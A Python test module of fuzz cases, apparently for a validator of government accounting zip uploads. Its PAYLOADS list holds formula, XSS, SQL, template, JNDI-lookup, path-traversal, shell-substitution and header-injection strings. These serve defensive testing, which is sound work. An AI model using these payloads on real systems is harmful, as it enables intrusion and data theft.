"""Families: values, characters, and payloads that aim at whoever reads them later."""

from adk.formats.drafts import Draft
from adk.formats.mistakes_table import TABLE
from adk.formats.zipwriting import ZipMember
from tests.corpus.case import Case, Made, drafted, with_row
from tests.corpus.of_files import uploaded_as
from tests.unit.adk.formats.cast import row, satker

AMOUNTS = [
    "",
    "-",
    "+1",
    "--1",
    "1-",
    "- 1",
    "1 000",
    "1.000",
    "1,000",
    "1.0",
    "1,5",
    ".5",
    "1e3",
    "0x10",
    "Rp1",
    "(1)",
    "NaN",
    "inf",
    "1_000",
    "********************",
    "9" * 19,
    "1" * 20,
    "0" * 20,
    str(2**63),
    str(-(2**63) - 1),
    b"\xb2",
    b"1\t",
    b"1\x00",
]
DATES = [
    "20260230",
    "20260229",
    "20261301",
    "20260001",
    "20260100",
    "20260132",
    "00000000",
    "00000101",
    "2026010",
    "260101",
    "2026-1-1",
    "01012026",
    "19000229",
    "2026 101",
    "ABCDEFGH",
    "********",
]
ACCOUNTS = ["0", "9", "52111", "021111", "921111", "5211A1", "52111 ", " 5 1 1", "-21111", "52.111", "5"]
CHOICES = {
    "KDTRN": ["", "1", "4", "9", "A", "-", "*"],
    "KDKEM": ["2", "9", "Y", "-", "*"],
    "KDDK": ["", "C", "d", "k", "0", "-", "*"],
}


def _opening(**changes: object):
    def change(draft: Draft) -> None:
        draft.tables["opening"].rows[0] |= changes

    return drafted(change)


def _mistake(name: str) -> Case:
    code, spoil = TABLE[name]
    return Case("values", name, code, drafted(spoil))


VALUES = [
    *(Case("values", f"RPHREAL {value!r}", "NILAI", with_row(RPHREAL=value)) for value in AMOUNTS),
    *(
        Case("values", f"{field} {value!r}", "NILAI", with_row(**{field: value}))
        for field, values in CHOICES.items()
        for value in values
    ),
    *(
        Case("values", f"{field} {value!r}", "TANGGAL", with_row(**{field: value}))
        for field in ("TGLPOST", "TGLDOK1", "TGLKURS")
        for value in DATES
    ),
    *(
        Case("values", f"{field} {value!r}", "KODE_AKUN", with_row(**{field: value}))
        for field in ("KDMAKMAP", "PERKSAI", "PERKSAI1")
        for value in dict.fromkeys(ACCOUNTS)
    ),
    Case("values", "no account", "KODE_AKUN", with_row(KDMAKMAP="", PERKSAI="")),
    *(
        Case("values", f"opening SALDO {v!r}", "NILAI", _opening(SALDO=v))
        for v in ("", "x", "1.5", str(2**63))
    ),
    *(Case("values", f"opening KDPERK {v!r}", "KODE_AKUN", _opening(KDPERK=v)) for v in ("", "9", "11161A")),
    *map(
        _mistake, ("rupiah_jumlah_besar", "akun_tidak_dikenal", "baris_kembar", "sdcp_asing", "lokasi_asing")
    ),
]

FOREIGN = [*range(0x20), 0x7F, 0x81, 0x8D, 0x8F, 0x90, 0x9D]
CHARACTERS = [
    *(
        Case("characters", f"byte {byte:#04x}", "KARAKTER", with_row(NODOK1=b"A" + bytes([byte]) + b"B"))
        for byte in FOREIGN
    ),
    *(
        Case("characters", f"{where} {byte:#04x}", "KARAKTER", with_row(NODOK1=raw))
        for byte in (0x00, 0x0A, 0x1A, 0x7F, 0x9D)
        for where, raw in {"begins with": bytes([byte]) + b"A", "ends with": b"A" + bytes([byte])}.items()
    ),
    *(
        Case("characters", f"{field} holds a bell", "KARAKTER", with_row(**{field: b"\x07"}))
        for field in ("KDOUTPUT", "KDPROGRAM", "REGISTER", "JNSDOK1", "USID", "KATEGORI", "CAD1", "NOREGIS")
    ),
    Case("characters", "opening balances of NUL", "KODE_SATKER", _opening(KDSATKER=b"36351\x00")),
]

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.y","klik")',
    '=IMPORTXML("http://x.y","//a")',
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "javascript:alert(1)",
    "<svg/onload=alert(1)>",
    "'; DROP TABLE adk; --",
    "' OR '1'='1",
    '" OR 1=1 --',
    "1; SELECT pg_sleep(9)",
    "{{7*7}}",
    "{% debug %}",
    "${jndi:ldap://x.y/a}",
    "#{7*7}",
    "{0.__class__}",
    "{isi}",
    "{",
    "}",
    "%s%s%s%n",
    "%(x)s",
    "../../etc/passwd",
    "..\\..\\windows",
    "file:///etc/passwd",
    "`id`",
    "$(id)",
    "; id",
    "| id",
    "& whoami",
    "<?xml version='1.0'?>",
    "<!ENTITY x SYSTEM 'file:///x'>",
    "&lt;b&gt;",
    "\\u0000",
    "\\x00",
    "%00",
    "%0d%0aSet-Cookie: x=1",
]
CONTROLS = [b"A\r\nSet-Cookie: x=1", b"A\x1b[31m", b"A\x00B", b"\x08\x08\x08", b"A\x1aB", b"A\tB"]


def _upload(payload: str) -> Made:
    return uploaded_as(f"{payload}.zip")


def _harmless_name(payload: str) -> Made:
    return payload, satker().build()[1]


def _program(payload: str):
    return drafted(
        lambda draft: draft.members_done.append(lambda all_: [*all_, ZipMember(payload.encode(), b"x")])
    )


def _comment(draft: Draft) -> None:
    text = b"<script>alert(1)</script>"
    draft.bytes_done.append(lambda raw: raw[:-2] + len(text).to_bytes(2, "little") + text)


NAMELIKE = [one for one in PAYLOADS if not set(one) & set("/\\:")]
INJECTIONS = [
    *(Case("injection payloads", f"NODOK1 {one!r}", None, with_row(NODOK1=one)) for one in PAYLOADS),
    *(
        Case("injection payloads", f"satker {one[:6]!r}", "KODE_SATKER", with_row(KDSATKER=one[:6]))
        for one in PAYLOADS
    ),
    *(
        Case("injection payloads", f"account {one[:6]!r}", "KODE_AKUN", with_row(PERKSAI=one[:6]))
        for one in PAYLOADS
    ),
    *(
        Case("injection payloads", f"amount {one[:20]!r}", "NILAI", with_row(RPHREAL=one[:20]))
        for one in PAYLOADS
    ),
    *(Case("injection payloads", f"member {one!r}", "ISI_TIDAK_SESUAI", _program(one)) for one in NAMELIKE),
    *(
        Case("injection payloads", f"upload {one!r}", "ISI_TIDAK_SESUAI", lambda one=one: _upload(one))
        for one in PAYLOADS
    ),
    *(
        Case(
            "injection payloads",
            f"upload beside a good member {one!r}",
            None,
            lambda one=one: _harmless_name(one),
        )
        for one in PAYLOADS
    ),
    *(Case("injection payloads", f"NODOK1 {one!r}", "KARAKTER", with_row(NODOK1=one)) for one in CONTROLS),
    Case("injection payloads", "script in the comment of the zip", None, drafted(_comment)),
    Case(
        "injection payloads",
        "two hundred payloads at once",
        "NILAI",
        lambda: satker([row(n, KDTRN="2", RPHREAL=PAYLOADS[n % 40][:20]) for n in range(200)]).build(),
    ),
]
